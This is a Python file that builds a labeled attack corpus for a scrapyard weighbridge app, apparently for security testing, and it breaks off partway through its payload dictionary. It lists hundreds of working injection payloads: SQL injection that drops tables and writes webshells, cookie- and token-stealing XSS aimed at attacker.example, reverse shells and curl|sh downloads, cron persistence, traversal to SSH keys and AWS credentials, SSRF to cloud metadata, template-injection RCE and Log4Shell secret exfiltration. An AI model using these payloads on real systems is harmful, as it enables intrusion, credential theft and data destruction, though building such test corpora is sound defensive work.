#!/usr/bin/env python3
"""Attack corpus for scrapyard (metal scrapyard / recycling depot app). Stdlib only.

Each literal line is "class ||| value".  Inside values the markers
<CR>, <LF>, <TAB>, <ESC> written with the U+27E8/U+27E9 brackets stand for the raw control characters.
"""
import json
import os
import random
import urllib.parse

SEED = 21702
PREFIX = "hagz"
rng = random.Random(SEED)

TARGET = {"sqli": 80, "xss": 78, "cmdi": 70, "traversal": 50, "ssrf": 50,
          "code": 80, "nosqli": 27, "crlf": 30, "ldap-xpath": 20}

LIT = {}

LIT["sqli"] = r'''
note-union-select ||| Ticket 90417 copper' UNION SELECT username,password,NULL FROM users-- -
search-boolean ||| CU-BB' OR '1'='1
plain-boolean ||| ' OR 1=1--
number-boolean ||| 90417 OR 1=1
search-mysql-sleep ||| bare bright' AND SLEEP(5)-- -
seller-pg-sleep ||| 4412'; SELECT pg_sleep(10)--
container-mssql-waitfor ||| C-12'; WAITFOR DELAY '0:0:10'--
grade-oracle-dbms-pipe ||| HMS 1&2' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('x',10)--
note-sqlite-randomblob ||| tare reused' AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000))))--
grade-mysql-extractvalue ||| SS-304' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT version()),0x7e))-- -
grade-mysql-updatexml ||| SS-316' AND UPDATEXML(1,CONCAT(0x7e,(SELECT user()),0x7e),1)-- -
ticket-mssql-convert-error ||| 90417' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))--
seller-pg-cast-error ||| O'Connor' AND 1=CAST((SELECT current_user) AS int)--
number-stacked-drop ||| 90418; DROP TABLE tickets--
note-mssql-xp-cmdshell ||| paid cash'; EXEC xp_cmdshell 'whoami > C:\inetpub\wwwroot\w.txt'--
search-mysql-into-outfile ||| brass' UNION SELECT '<?php system($_GET[c]); ?>',2 INTO OUTFILE '/var/www/html/s.php'-- -
note-pg-copy-program ||| weighed twice'; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/x | sh'--
sort-case-when ||| (CASE WHEN (SELECT SUBSTRING(password,1,1) FROM users WHERE id=1)='a' THEN gross_kg ELSE tare_kg END)
sort-error-probe ||| net_kg,(SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END)
search-comment-as-space ||| CU-BB'/**/UNION/**/SELECT/**/password,2/**/FROM/**/sellers--
search-mysql-versioned-comment ||| zorba' /*!50000UNION*/ /*!50000SELECT*/ 1,table_name,3 FROM information_schema.tables-- -
search-case-mixing ||| twitch' uNiOn SeLeCt NuLl,table_name FrOm information_schema.tables-- -
login-mysql-hash-comment ||| weighbridge_admin'#
login-double-dash ||| operator' --
seller-blind-substring ||| 4412' AND SUBSTRING((SELECT password FROM users LIMIT 1),1,1)='a
grade-mysql-ascii-blind ||| AL-EXT' AND ASCII(SUBSTR((SELECT user()),1,1))>64-- -
grade-mysql-benchmark ||| AL-CST' AND BENCHMARK(5000000,MD5(1))-- -
note-pg-dollar-quote ||| rain deduction'; SELECT $$x$$||(SELECT passwd FROM pg_shadow LIMIT 1)--
search-oracle-union-dual ||| lead' UNION SELECT banner,NULL FROM v$version--
seller-oracle-utl-http ||| Smith' AND UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual)) IS NOT NULL--
container-mssql-xp-dirtree ||| C-14'; EXEC master..xp_dirtree '\\attacker.example\share'--
search-mysql-load-file ||| cast iron' UNION SELECT LOAD_FILE('/etc/passwd'),2-- -
search-sqlite-master ||| UBC' UNION SELECT name,sql FROM sqlite_master--
plain-having ||| ' HAVING 1=1--
number-group-concat ||| 0 UNION SELECT group_concat(username,0x3a,password),2 FROM users
number-union-select ||| 90417 AND 1=2 UNION SELECT 1,2,3
limit-procedure-analyse ||| 10 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)
note-insert-subquery ||| copper', (SELECT password FROM users LIMIT 1))-- -
profile-update-role ||| Big Dave', role='admin' WHERE seller_id=4412-- -
search-urlencode-hand ||| CU-BB%27%20OR%20%271%27%3D%271
search-double-urlencode ||| HMS%2527%2520OR%25201%253D1--%2520-
search-fullwidth-nfkc ||| copper＇ ＯＲ 1=1--
note-mssql-exec-concat ||| skip full'; EXEC('WAIT'+'FOR DELAY ''0:0:5'' ')--
seller-string-concat ||| O'Brien'||(SELECT password FROM users LIMIT 1)||'
seller-oracle-concat ||| Nowak'||(SELECT password FROM dba_users WHERE rownum=1)||'
number-mysql-float-union ||| 90417.0UNION SELECT username,password FROM users
search-mysql-backticks ||| brass' UNION SELECT `password`,2 FROM `users`-- -
seller-like-wildcard ||| Kowalski' OR seller_name LIKE '%
number-paren-breakout ||| 4412) OR (1=1
note-json-extract ||| zurik' OR JSON_EXTRACT(meta,'$.role')='admin'-- -
grade-mssql-version ||| FE-CAST' UNION ALL SELECT @@version,NULL--
number-pg-stacked-version ||| 1;SELECT version()--
filter-param-raw ||| grade='CU-BB' OR 1=1
search-mysql-oob-unc ||| wheels' AND LOAD_FILE(CONCAT('\\\\',(SELECT password FROM users LIMIT 1),'.attacker.example\\a'))-- -
grade-mysql-if-sleep ||| PB-SOFT' AND IF(1=1,SLEEP(5),0)-- -
note-pg-generate-series ||| moisture' AND (SELECT count(*) FROM generate_series(1,50000000))>0--
grade-mssql-iif ||| BR-YEL' AND 1=IIF((SELECT COUNT(*) FROM users)>0,1,0)--
grade-mysql-elt-sleep ||| CU-2' AND ELT(1,SLEEP(5))-- -
search-urlencoded-tab ||| radiators'%09UNION%09SELECT%09password,2%09FROM%09users--
plain-no-space-paren ||| 'OR(1)=(1)#
plain-no-space-quote ||| 'OR'1'='1
note-h2-create-alias ||| driver waited'; CREATE ALIAS EXE AS 'String e(String c) throws Exception{Runtime.getRuntime().exec(c);return null;}'; CALL EXE('id')--
seller-second-order ||| O'Neill' UNION SELECT api_key,2 FROM staff--
search-overlong-utf8 ||| copper%C0%A7 OR 1=1--
search-iis-percent-u ||| brass%u0027%20OR%201=1--
import-html-entity-xml ||| CU-BB&#39; OR &#39;1&#39;=&#39;1
note-mysql-hex-dumpfile ||| offcuts' UNION SELECT 1,0x3c3f7068702073797374656d28245f4745545b635d293b203f3e INTO DUMPFILE '/var/www/html/t.php'-- -
note-sqlite-attach ||| ok'; ATTACH DATABASE '/var/www/html/x.php' AS x; CREATE TABLE x.t(c text); INSERT INTO x.t VALUES('<?php system($_GET[0]);?>');--
grade-oracle-ctxsys-error ||| FE-HMS' AND CTXSYS.DRITHSX.SN(1,(SELECT user FROM dual))=1--
note-mssql-shutdown ||| void ticket'; SHUTDOWN WITH NOWAIT--
number-information-schema ||| -1 UNION SELECT column_name,2 FROM information_schema.columns WHERE table_name='sellers'
note-pg-alter-role ||| reweigh'; ALTER ROLE app_user SUPERUSER;--
note-mysql-floor-rand-error ||| ticket 90417' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- -
search-mssql-openrowset ||| inconel'; SELECT * FROM OPENROWSET('SQLOLEDB','server=203.0.113.9;uid=sa;pwd=x','SELECT 1')--
'''

LIT["xss"] = r'''
plain-script ||| <script>alert(document.domain)</script>
note-img-onerror ||| Load had brass fittings <img src=x onerror=alert(1)>
seller-svg-onload-exfil ||| Seán <svg onload=fetch('//attacker.example/c?'+document.cookie)>
grade-svg-slash ||| CU-BB<svg/onload=alert(1)>
note-body-onload ||| <body onload=alert(1)>
note-iframe-javascript ||| see scan <iframe src="javascript:alert(1)"></iframe>
note-anchor-javascript ||| <a href="javascript:alert(document.cookie)">ticket 90417</a>
note-anchor-entity-tab ||| <a href="jav&#x09;ascript:alert(1)">price list</a>
note-details-ontoggle ||| <details open ontoggle=alert(1)>
chat-input-autofocus ||| hi <input autofocus onfocus=alert(1)>
chat-video-source ||| <video><source onerror=alert(1)></video>
note-audio-onerror ||| <audio src=x onerror=alert(1)>
note-object-data-base64 ||| <object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
note-iframe-srcdoc ||| <iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>
note-mxss-math-style ||| <math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
attr-breakout-script ||| C-12"><script>alert(1)</script>
attr-dq-onmouseover ||| Kowalski" onmouseover="alert(1)
attr-sq-autofocus ||| HMS' autofocus onfocus='alert(1)
textarea-breakout ||| </textarea><script>alert(1)</script>
title-breakout ||| </title><img src=x onerror=alert(1)>
js-sq-string-breakout ||| O';alert(document.cookie);//
js-dq-string-breakout ||| \";alert(1);//
script-block-breakout ||| </script><script>alert(1)</script>
js-template-literal ||| ${alert(document.domain)}
angularjs-csti ||| {{constructor.constructor('alert(1)')()}}
vue-csti ||| {{_c.constructor('alert(1)')()}}
note-handler-entities ||| <img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>
note-handler-js-unicode ||| <img src=x onerror="\u0061lert(1)">
note-svg-script-entities ||| <svg><script>alert&#40;1&#41;</script></svg>
plain-case-mixing ||| <ScRiPt>alert(1)</sCrIpT>
search-urlencode-hand ||| %3Cscript%3Ealert(1)%3C%2Fscript%3E
search-double-urlencode ||| %253Csvg%2520onload%253Dalert(1)%253E
note-svg-animate-onbegin ||| <svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>
note-formaction ||| <form><button formaction=javascript:alert(1)>Pay seller</button></form>
note-meta-refresh-redirect ||| <meta http-equiv="refresh" content="0;url=https://attacker.example/login">
note-base-href-hijack ||| <base href="https://attacker.example/">
note-link-stylesheet ||| <link rel=stylesheet href=//attacker.example/x.css>
note-style-import ||| <style>@import'//attacker.example/x.css';</style>
note-atob-eval ||| <img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>
note-tagged-template ||| <svg onload=alert`1`>
note-string-concat-call ||| <img src=x onerror=window['al'+'ert'](1)>
note-regex-source-call ||| <img src=x onerror=top[/al/.source+/ert/.source](1)>
note-custom-element-onclick ||| <x onclick=alert(1)>click for ticket</x>
note-pointerenter ||| <p onpointerenter=alert(1)>hover for price</p>
settings-select-autofocus ||| <select autofocus onfocus=alert(1)></select>
settings-textarea-autofocus ||| <textarea autofocus onfocus=alert(1)></textarea>
note-localstorage-exfil ||| <img src=x:x onerror=fetch('https://attacker.example/?t='+localStorage.token)>
href-javascript-scheme ||| javascript:alert(document.domain)
href-javascript-case ||| JaVaScRiPt:alert(1)
href-javascript-tab ||| java⟨TAB⟩script:alert(1)
iframe-src-data-uri ||| data:text/html,<script>alert(1)</script>
note-svg-xlink ||| <svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>open ticket</text></a></svg>
note-mxss-noscript ||| <noscript><p title="</noscript><img src=x onerror=alert(1)>">
note-iframe-external ||| <iframe src=//attacker.example/frame.html width=900 height=600></iframe>
search-fullwidth-nfkc ||| ＜script＞alert(1)＜/script＞
json-unicode-escape ||| \u003cimg src=x onerror=alert(1)\u003e
note-unclosed-tag ||| Grade CU-2 <img src=x onerror=alert(1)//
markdown-javascript-link ||| [weekly price list](javascript:alert(1))
markdown-image-attr ||| ![scale photo](x" onerror="alert(1))
note-onclick-post-cookie ||| <a href=# onclick="fetch('//attacker.example',{method:'POST',body:document.cookie})">ticket 90417</a>
note-dynamic-import ||| <img src=x onerror=import('//attacker.example/x.js')>
note-external-script ||| Container C-12 full <script src=//attacker.example/x.js></script>
note-image-beacon ||| <script>new Image().src='//attacker.example/c?'+document.cookie</script>
note-location-exfil ||| <img src=x onerror=location='//attacker.example/?'+document.cookie>
note-body-onpageshow ||| <body onpageshow=alert(1)>
note-style-onload ||| <style onload=alert(1)></style>
note-focusin-hash ||| <xss id=x tabindex=1 onfocusin=alert(1)></xss>
note-srcset-onerror ||| <img srcset=x onerror=alert(1)>
note-iframe-onload ||| <iframe onload=alert(1)></iframe>
note-object-javascript ||| <object data=javascript:alert(1)>
note-input-image ||| <input type=image src=x onerror=alert(1)>
plain-uppercase ||| <IMG SRC=x ONERROR=alert(1)>
note-slash-separators ||| <img/src=x/onerror=alert(1)>
note-newline-before-equals ||| <img src=x onerror⟨LF⟩=alert(1)>
note-attr-entity-parens ||| <svg onload=alert&#40;1&#41;>
href-decimal-entities ||| <a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">receipt</a>
href-named-colon ||| <a href="javascript&colon;alert(1)">receipt</a>
'''

LIT["cmdi"] = r'''
export-semicolon-cat ||| 90417; cat /etc/passwd
export-and-id ||| tickets.csv && id
container-pipe-nc ||| C-12 | nc attacker.example 4444 -e /bin/sh
filename-subshell-curl ||| photo_$(curl -s http://attacker.example/s.sh | sh).jpg
plain-backticks ||| `id`
note-wget-bash ||| x; wget -qO- http://203.0.113.7/a | bash
plain-reverse-shell ||| ;bash -i >& /dev/tcp/203.0.113.7/4444 0>&1
ping-or-ping ||| 198.51.100.10 || ping -c 10 127.0.0.1
export-sleep-comment ||| tickets_may.csv; sleep 10 #
filename-urlencoded-newline ||| scan.pdf%0aid
filename-raw-newline ||| photo_90417.jpg⟨LF⟩id
export-ifs ||| report;cat${IFS}/etc/passwd
export-brace-expansion ||| report;{cat,/etc/passwd}
export-quote-splitting ||| report;c'a't /e"t"c/pa''sswd
export-glob ||| report;/???/??t /???/p??s??
export-printf-hex ||| report;$(printf '\x69\x64')
export-base64-pipe ||| report;echo aWQ= | base64 -d | sh
export-rm-rf ||| old_exports; rm -rf /var/lib/scaleapp/photos
win-amp-whoami ||| tickets.csv & whoami
win-pipe-type ||| C-12 | type C:\Windows\win.ini
win-powershell-iwr ||| report.pdf & powershell -nop -c "iwr http://attacker.example/p.ps1 | iex"
win-powershell-enc ||| x | powershell -NoP -W Hidden -enc SQBFAFgAKABpAHcAcgAgAGgAdAB0AHAAOgAvAC8AYQB0AHQAYQBjAGsAZQByAC4AZQB4AGEAbQBwAGwAZQAvAGEALgBwAHMAMQAgAC0AVQBzAGUAQgBhAHMAaQBjAFAAYQByAHMAaQBuAGcAKQA=
win-certutil ||| scale01 & certutil -urlcache -split -f http://attacker.example/a.exe %TEMP%\a.exe & %TEMP%\a.exe
win-caret-obfuscation ||| tickets.csv & w^ho^am^i
win-comspec ||| x & %COMSPEC% /c net user
win-cmd-set ||| scale02 | cmd /c "set"
curl-arg-output ||| -o /var/www/html/s.php http://attacker.example/s.txt
tar-arg-checkpoint ||| --checkpoint=1 --checkpoint-action=exec=sh /tmp/s.sh
find-arg-exec ||| photos -exec sh -c id \;
zip-arg-tt ||| -T -TT 'sh -c id #'
git-arg-upload-pack ||| --upload-pack=touch /tmp/pwned
ssh-arg-proxycommand ||| -oProxyCommand=sh -c 'curl attacker.example|sh'
wget-arg-post-file ||| --post-file=/etc/shadow http://attacker.example/
rsync-arg-e ||| -e 'sh -c id' backup@10.0.0.4:/srv
sendmail-arg-x ||| accounts@yard.example -X/var/www/html/log.php -OQueueDirectory=/tmp
ping-semicolon ||| 198.51.100.10; id
ping-and-curl ||| 198.51.100.10 -c 1 && curl attacker.example/x|sh
nslookup-win-dir ||| attacker.example & dir C:\
plain-subshell-sleep ||| $(sleep 5)
plain-backtick-sleep ||| `sleep 5`
export-ifs-sleep ||| tickets;sleep${IFS}5
filename-inline-subshell ||| ticket_$(whoami)_copy.pdf
export-base64-webshell ||| x;echo${IFS}PD9waHAgc3lzdGVtKCRfR0VUW2NdKTs/Pg==|base64${IFS}-d>/var/www/html/c.php
export-curl-exfil ||| tickets.csv || curl -d @/etc/passwd http://attacker.example/
container-nc-e ||| C-12; nc -e /bin/sh 203.0.113.5 9001
note-python-revshell ||| ; python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.5",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")'
note-perl-system ||| ; perl -e 'system("id")'
note-php-r ||| ; php -r 'system("id");'
cron-persistence ||| x;(crontab -l;echo '* * * * * curl attacker.example/c|sh')|crontab -
mkfifo-revshell ||| ; rm -f /tmp/f; mkfifo /tmp/f; nc 203.0.113.5 4444 </tmp/f | /bin/sh >/tmp/f 2>&1
filename-urlencoded-cat ||| x%0a/bin/cat%20/etc/passwd
filename-urlencoded-semicolon ||| scan.pdf%3Bid
filename-urlencoded-and ||| scan.pdf%26%26whoami
win-type-hosts ||| x && type %SYSTEMROOT%\system32\drivers\etc\hosts
ps-get-content ||| C-12; Get-Content C:\inetpub\wwwroot\web.config
ps-invoke-webrequest-exfil ||| x; Invoke-WebRequest -Uri http://attacker.example/x -Method POST -InFile C:\scale\config.ini
ps-subexpression ||| C-12 $(iex (iwr http://attacker.example/a -UseBasicParsing).Content)
glob-bash-path ||| ;/bin/b?sh -c id
dns-oob-subshell ||| ;dig $(hostname).attacker.example
ping-oob-whoami ||| ;ping -c1 $(whoami).attacker.example
win-nslookup-oob ||| & nslookup %USERNAME%.attacker.example
win-quoted-breakout ||| "&calc&"
sq-breakout ||| ';id;'
dq-breakout ||| ";id;"
bash-redirect-read ||| x;echo $(</etc/passwd)
ifs-comma-var ||| a;IFS=,;c=cat,/etc/passwd;$c
substring-slash ||| ;cat ${HOME:0:1}etc${HOME:0:1}passwd
busybox-telnetd ||| ; busybox telnetd -l /bin/sh -p 9999
'''

LIT["traversal"] = r'''
plain-dotdot ||| ../../../../etc/passwd
photo-windows-backslash ||| ..\..\..\..\windows\win.ini
photo-prefixed ||| photos/../../../../etc/shadow
photo-urlencode-hand ||| %2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd
photo-double-urlencode ||| %252e%252e%252f%252e%252e%252fetc%252fpasswd
photo-overlong-slash ||| ..%c0%af..%c0%af..%c0%afetc/passwd
photo-overlong-backslash ||| ..%c1%9c..%c1%9c..%c1%9cboot.ini
photo-percent-u ||| %u002e%u002e%u002f%u002e%u002e%u002fetc%u002fpasswd
photo-strip-bypass ||| ....//....//....//etc/passwd
photo-dot-slash-bypass ||| ..././..././..././etc/passwd
plain-absolute ||| /etc/passwd
report-proc-environ ||| /proc/self/environ
win-absolute-sam ||| C:\Windows\System32\config\SAM
unc-path ||| \\attacker.example\share\ticket.pdf
env-file ||| ../../../../var/www/app/.env
config-encoded-slash ||| ..%2f..%2f..%2fapp%2fconfig%2fdatabase.yml
webconfig-encoded-backslash ||| ..%5c..%5c..%5cweb.config
null-byte-extension ||| ../../../../etc/passwd%00.jpg
win-double-backslash-strip ||| ....\\....\\windows\\win.ini
tomcat-semicolon ||| ..;/..;/WEB-INF/web.xml
tomcat-manager ||| /..;/manager/html
webinf-dotdot ||| ../WEB-INF/web.xml
upper-urlencode ||| ..%2F..%2F..%2F..%2Fetc%2Fpasswd
encoded-dots-only ||| %2e%2e/%2e%2e/%2e%2e/etc/passwd
half-encoded-dots ||| .%2e/.%2e/.%2e/etc/passwd
double-encoded-slash ||| ..%252f..%252f..%252fetc/passwd
fullwidth-nfkc ||| ．．／．．／．．／etc／passwd
photo-root-ssh-key ||| /var/lib/scaleapp/photos/../../../../root/.ssh/id_rsa
photo-dated-bash-history ||| 2024/05/../../../../../home/yard/.bash_history
lfi-php-filter ||| php://filter/convert.base64-encode/resource=../config.php
lfi-php-filter-rot13 ||| php://filter/read=string.rot13/resource=index.php
lfi-zip-wrapper ||| zip://uploads/ticket_90417.jpg#shell.php
lfi-phar-wrapper ||| phar://uploads/scale_photo.jpg/x
lfi-expect-wrapper ||| expect://id
lfi-data-wrapper ||| data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOz8+
proc-fd ||| ../../../../../../proc/self/fd/2
log-poison-include ||| ../../../var/log/nginx/access.log
escaped-slashes ||| ..\/..\/..\/etc\/passwd
win-boot-ini ||| ../../../../boot.ini
win-forward-slash ||| C:/inetpub/wwwroot/web.config
win-ntuser ||| ..\..\..\..\Users\Administrator\NTUSER.DAT
ticket-pdf-suffix ||| ticket_90417.pdf/../../../../etc/hosts
win-encoded-backslash ||| %2e%2e%5c%2e%2e%5cwindows%5cwin.ini
static-encoded-slash ||| /static/..%2f..%2f..%2fetc/passwd
quad-slash-strip ||| ....////....////etc/passwd
overlong-dots ||| %c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd
many-dotdot ||| ../../../../../../../../../../../../etc/passwd
zipslip-entry ||| ../../../../var/www/html/shell.jsp
proc-cwd ||| /proc/self/cwd/config/settings.py
aws-credentials ||| ../../../../home/yard/.aws/credentials
'''

LIT["ssrf"] = r'''
webhook-aws-imds ||| http://169.254.169.254/latest/meta-data/iam/security-credentials/
webhook-gcp-metadata ||| http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token
webhook-azure-imds ||| http://169.254.169.254/metadata/instance?api-version=2021-02-01
camera-localhost-admin ||| http://127.0.0.1:8080/admin
camera-redis ||| http://localhost:6379/
gopher-redis-webshell ||| gopher://127.0.0.1:6379/_SET%20x%20%22%3C%3Fphp%20system(%24_GET%5Bc%5D)%3B%3F%3E%22%0D%0ACONFIG%20SET%20dir%20/var/www/html%0D%0ACONFIG%20SET%20dbfilename%20s.php%0D%0ASAVE%0D%0A
gopher-memcached ||| gopher://127.0.0.1:11211/_stats%0d%0a
dict-redis-info ||| dict://127.0.0.1:6379/INFO
file-scheme-passwd ||| file:///etc/passwd
file-scheme-windows ||| file:///c:/windows/win.ini
ip-decimal ||| http://2130706433/
ip-hex ||| http://0x7f000001/
ip-octal ||| http://0177.0.0.1/
ip-short ||| http://127.1/
ip-zero ||| http://0/
ipv6-loopback-consul ||| http://[::1]:8500/v1/agent/self
ipv6-mapped-loopback ||| http://[::ffff:127.0.0.1]/
ipv6-mapped-imds ||| http://[0:0:0:0:0:ffff:a9fe:a9fe]/latest/meta-data/
dns-rebind-attacker ||| http://a9fea9fe.rebind.attacker.example/latest/meta-data/
userinfo-confusion ||| http://attacker.example@127.0.0.1/admin
fragment-confusion ||| http://127.0.0.1#@yard.example/
open-redirect-imds ||| https://attacker.example/302?to=http://169.254.169.254/latest/meta-data/
redirect-elasticsearch ||| https://attacker.example/302?u=http://10.0.0.5:9200/_cat/indices
internal-elasticsearch ||| http://10.0.0.5:9200/_search?q=*
internal-router ||| http://192.168.1.1/cgi-bin/luci
docker-api ||| http://172.17.0.1:2375/containers/json
k8s-secrets ||| https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets
kubelet-pods ||| http://127.0.0.1:10255/pods
consul-kv ||| http://localhost:8500/v1/kv/?recurse
enclosed-alnum-nfkc ||| http://①②⑦.⓪.⓪.①/
ideographic-dots ||| http://127。0。0。1/
ip-dotted-hex ||| http://0x7f.0x0.0x0.0x1/
ip-octal-whole ||| http://017700000001/
java-jar-scheme ||| jar:http://attacker.example/x.zip!/a.txt
java-netdoc ||| netdoc:///etc/passwd
ldap-scheme-internal ||| ldap://127.0.0.1:389/dc=yard,dc=example??sub
alibaba-metadata ||| http://100.100.100.200/latest/meta-data/
ecs-task-credentials ||| http://169.254.170.2/v2/credentials/
aws-imds-ipv6 ||| http://[fd00:ec2::254]/latest/meta-data/
cluster-internal-service ||| http://internal-billing.svc.cluster.local/admin/export
envoy-admin ||| http://localhost:15000/config_dump
etcd-keys ||| http://127.0.0.1:2379/v2/keys/?recursive=true
actuator-env ||| http://0.0.0.0:8080/actuator/env
apache-server-status ||| http://127.0.0.1/server-status
pdf-render-iframe-file ||| <iframe src="file:///etc/passwd" width=800 height=1200></iframe>
'''

LIT["code"] = r'''
jinja2-cycler-popen ||| Thanks {{ cycler.__init__.__globals__.os.popen('id').read() }}
jinja2-self-builtins ||| {{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}
jinja2-subclasses ||| Ticket footer {{ ''.__class__.__mro__[1].__subclasses__() }}
flask-config-leak ||| {{ config.items() }}
jinja2-catch-warnings-loop ||| {% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}
jinja2-attr-filter-bypass ||| {{ lipsum|attr('__globals__')|attr('__getitem__')('os')|attr('popen')('id')|attr('read')() }}
jinja2-lipsum-globals ||| Dear {{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}
jinja2-hex-escape-attr ||| {{ ()|attr('\x5f\x5fclass\x5f\x5f')|attr('\x5f\x5fbase\x5f\x5f')|attr('\x5f\x5fsubclasses\x5f\x5f')() }}
twig-filter-system ||| {{ ['id']|filter('system') }}
twig-undefined-filter ||| {{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}
twig-map-system ||| Price list {{ ['cat /etc/passwd']|map('system')|join }}
freemarker-assign-execute ||| <#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}
freemarker-inline-execute ||| ${"freemarker.template.utility.Execute"?new()("id")}
velocity-reflection ||| #set($e="")$e.getClass().forName("java.lang.Runtime").getMethod("getRuntime",null).invoke(null,null).exec("id")
thymeleaf-preprocess ||| __${T(java.lang.Runtime).getRuntime().exec('id')}__::.x
spel-hash-runtime ||| #{T(java.lang.Runtime).getRuntime().exec('id')}
spel-dollar-runtime ||| ${T(java.lang.Runtime).getRuntime().exec("curl http://attacker.example/s")}
java-el-reflection ||| ${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}
ognl-runtime ||| %{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}
ognl-struts-member-access ||| %{#_memberAccess['allowStaticMethodAccess']=true,@java.lang.Runtime@getRuntime().exec('id')}
erb-system ||| <%= system('id') %>
erb-backticks ||| Ticket note <%= `cat /etc/passwd` %>
ruby-interpolation-backticks ||| #{`id`}
smarty-function ||| {system('id')}
smarty2-php-tag ||| {php}system('id');{/php}
mako-import ||| ${__import__('os').popen('id').read()}
mako-block ||| <% import os; x=os.popen('id').read() %>${x}
tornado-import ||| {% import os %}{{ os.popen('id').read() }}
pug-interpolation ||| #{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad("child_process").exec('id')}()}
ejs-execsync ||| <%= process.mainModule.require('child_process').execSync('id') %>
nunjucks-range-constructor ||| {{ range.constructor("return global.process.mainModule.require('child_process').execSync('id')")() }}
razor-process-start ||| @System.Diagnostics.Process.Start("cmd.exe","/c whoami")
groovy-gstring-execute ||| ${"id".execute().text}
handlebars-lookup-constructor ||| {{#with "s" as |string|}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push "return process.mainModule.require('child_process').execSync('id');"}}{{#each (lookup string.sub "constructor")}}{{/each}}{{/with}}{{/with}}
python-eval-import ||| __import__('os').system('id')
python-eval-compile ||| eval(compile('import os;os.system("id")','x','exec'))
php-eval-phpinfo ||| phpinfo();
php-eval-system-get ||| system($_GET['c']);
php-string-concat-breakout ||| '.system('id').'
node-eval-child-process ||| require('child_process').exec('curl attacker.example|sh')
node-eval-string-breakout ||| ');require('child_process').execSync('id');//
ruby-eval-percent-x ||| %x(id)
log4shell-ldap ||| ${jndi:ldap://attacker.example/a}
log4shell-rmi ||| Driver ${jndi:rmi://203.0.113.5:1099/x} arrived
log4shell-lower ||| ${${lower:j}ndi:${lower:l}dap://attacker.example/b}
log4shell-default-split ||| ${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://attacker.example/c}
log4shell-dns-env-exfil ||| ${jndi:dns://attacker.example/${env:AWS_SECRET_ACCESS_KEY}}
log4shell-env-default ||| ${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://attacker.example/d}
log4shell-ldaps-ip ||| ${jndi:ldaps://198.51.100.4/e}
log4shell-k8s-lookup ||| ${j${k8s:k5:-ND}i:ldap://attacker.example/f}
log4shell-upper ||| ${${upper:j}ndi:ldap://attacker.example/g}
log4shell-urlencode-hand ||| %24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fh%7D
proto-pollution-json ||| {"__proto__":{"isAdmin":true}}
proto-pollution-constructor ||| {"constructor":{"prototype":{"shell":"/proc/self/exe","NODE_OPTIONS":"--require /proc/self/environ"}}}
proto-pollution-ejs-gadget ||| __proto__[outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');s
proto-pollution-query ||| constructor[prototype][role]=admin
csv-dde-cmd ||| =cmd|' /C calc'!A0
csv-hyperlink-exfil ||| =HYPERLINK("http://attacker.example/?d="&A1,"Click for receipt")
csv-plus-powershell ||| +cmd|' /C powershell IEX(iwr attacker.example/a)'!A0
csv-minus-dde ||| -2+3+cmd|' /C calc'!A0
csv-at-dde ||| @SUM(1+1)*cmd|' /C calc'!A0
csv-webservice ||| =WEBSERVICE("http://attacker.example/?"&A2)
csv-importxml-sheets ||| =IMPORTXML(CONCAT("http://attacker.example/?",A1),"//a")
csv-libreoffice-dde ||| =DDE("cmd";"/C calc";"!A0")
xxe-file-entity ||| <?xml version="1.0"?><!DOCTYPE t [<!ENTITY x SYSTEM "file:///etc/passwd">]><ticket><note>&x;</note></ticket>
xxe-parameter-entity-oob ||| <?xml version="1.0"?><!DOCTYPE r [<!ENTITY % d SYSTEM "http://attacker.example/evil.dtd"> %d;]><r/>
xinclude-text ||| <prices xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></prices>
xxe-entity-expansion ||| <?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]><x>&d;</x>
